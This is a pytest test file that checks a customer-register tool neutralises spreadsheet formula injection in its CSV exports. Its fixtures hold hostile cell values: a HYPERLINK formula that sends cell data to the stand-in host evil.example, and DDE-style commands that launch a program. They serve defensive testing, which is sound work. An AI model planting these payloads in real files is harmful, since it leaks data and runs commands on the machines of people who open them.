"""Every CSV we write is safe to open in a spreadsheet: no cell runs as a formula, numbers and
phone numbers stay values, and our own exports import back as they were."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from handlers.csv_safe import safe_cell
from handlers.rights.portability import to_csv
from storage.db import Database
from storage.models import Customer
from tests.helpers import customer_row, run_cli, write_customers_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_are_prefixed_with_an_apostrophe(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.50", "+5", "-129,90", "-7", "+358401234567",
                                   "Maija", "", "0401234567", "a=b", "Hämeenkatu 12 B 7"])
def test_numbers_phone_numbers_and_text_stay_unchanged(value: str) -> None:
    assert safe_cell(value) == value


def test_non_strings_become_their_text() -> None:
    assert safe_cell(None) == "" and safe_cell(-3) == "-3" and safe_cell(True) == "True"


@pytest.fixture
def cfg(tmp_path: Path) -> Path:
    path = tmp_path / "c.toml"
    path.write_text('[database]\nurl = "sqlite:///d.db"\n', encoding="utf-8")
    assert run_cli("--config", str(path), "init").exit_code == 0
    return path


def _import_hostile(cfg: Path, tmp_path: Path) -> None:
    write_customers_csv(tmp_path / "c.csv", [customer_row(
        "100001", first_name=HOSTILE[0], last_name=HOSTILE[1], organisation=HOSTILE[2],
        position=HOSTILE[3], phone="+358401234567")])
    assert run_cli("--config", str(cfg), "import", "customers",
                   str(tmp_path / "c.csv")).exit_code == 0
    (tmp_path / "o.csv").write_text(
        "order_number,customer_number,ordered_at,description,amount\n"
        '5000001,100001,2025-03-01,"=HYPERLINK(""http://evil.example"")",-12.50\n',
        encoding="utf-8")
    res = run_cli("--config", str(cfg), "import", "orders", str(tmp_path / "o.csv"))
    assert res.exit_code == 0, res.stderr


def test_csv_export_neutralises_formulas(cfg: Path, tmp_path: Path) -> None:
    _import_hostile(cfg, tmp_path)
    out = tmp_path / "export"
    res = run_cli("--config", str(cfg), "export", "register", "--format", "csv",
                  "--output", str(out))
    assert res.exit_code == 0, res.stderr
    (row,) = csv.DictReader((out / "customers.csv").open(encoding="utf-8"))
    for column, value in zip(("first_name", "last_name", "organisation", "position"), HOSTILE,
                             strict=False):
        assert row[column] == "'" + value
    assert row["phone"] == "+358401234567"
    (order,) = csv.DictReader((out / "orders.csv").open(encoding="utf-8"))
    assert order["description"].startswith("'=") and order["amount"] == "-12.50"


def test_mailing_list_export_neutralises_formulas(cfg: Path, tmp_path: Path) -> None:
    _import_hostile(cfg, tmp_path)
    db = Database(f"sqlite:///{tmp_path / 'd.db'}")
    now = datetime.now(UTC)
    with db.session() as s:  # values the import would trim, straight into the register
        s.add(Customer(customer_number="100002", first_name="\t=1+1", last_name="\r@x",
                       postal_address="-1+1", created_at=now, updated_at=now))
    db.dispose()
    listing = run_cli("--config", str(cfg), "export", "list", "--purpose", "marketing").stdout
    rows = list(csv.DictReader(io.StringIO(listing)))
    assert rows[0]["first_name"] == "'" + HOSTILE[0]
    assert rows[0]["last_name"] == "'" + HOSTILE[1]
    assert (rows[1]["first_name"], rows[1]["last_name"], rows[1]["postal_address"]) == (
        "'\t=1+1", "'\r@x", "'-1+1")


def test_portability_csv_neutralises_formulas() -> None:
    data = to_csv(["first_name", "phone", "amount"],
                  [{"first_name": HOSTILE[0], "phone": "+358401234567", "amount": "-12.50"}])
    (row,) = csv.DictReader(io.StringIO(data.decode("utf-8-sig")))
    assert row == {"first_name": "'" + HOSTILE[0], "phone": "+358401234567", "amount": "-12.50"}


def test_exported_orders_import_back_as_they_were(cfg: Path, tmp_path: Path) -> None:
    """The importer drops the apostrophe our export added, so export -> import round-trips."""
    _import_hostile(cfg, tmp_path)
    before = json.loads(run_cli("--config", str(cfg), "export", "register").stdout)
    out = tmp_path / "export"
    run_cli("--config", str(cfg), "export", "register", "--format", "csv", "--output", str(out))
    res = run_cli("--config", str(cfg), "import", "orders", str(out / "orders.csv"))
    assert res.exit_code == 0 and "1 updated" in res.stdout
    after = json.loads(run_cli("--config", str(cfg), "export", "register").stdout)
    assert after[0]["orders"] == before[0]["orders"]
    assert after[0]["orders"][0]["description"] == '=HYPERLINK("http://evil.example")'


def test_import_keeps_an_apostrophe_our_export_did_not_add(cfg: Path, tmp_path: Path) -> None:
    write_customers_csv(tmp_path / "c.csv", [customer_row("100001", last_name="'Ohana",
                                                          organisation="'-12.50")])
    assert run_cli("--config", str(cfg), "import", "customers",
                   str(tmp_path / "c.csv")).exit_code == 0
    (customer,) = json.loads(run_cli("--config", str(cfg), "export", "register").stdout)
    assert customer["last_name"] == "'Ohana" and customer["organisation"] == "'-12.50"
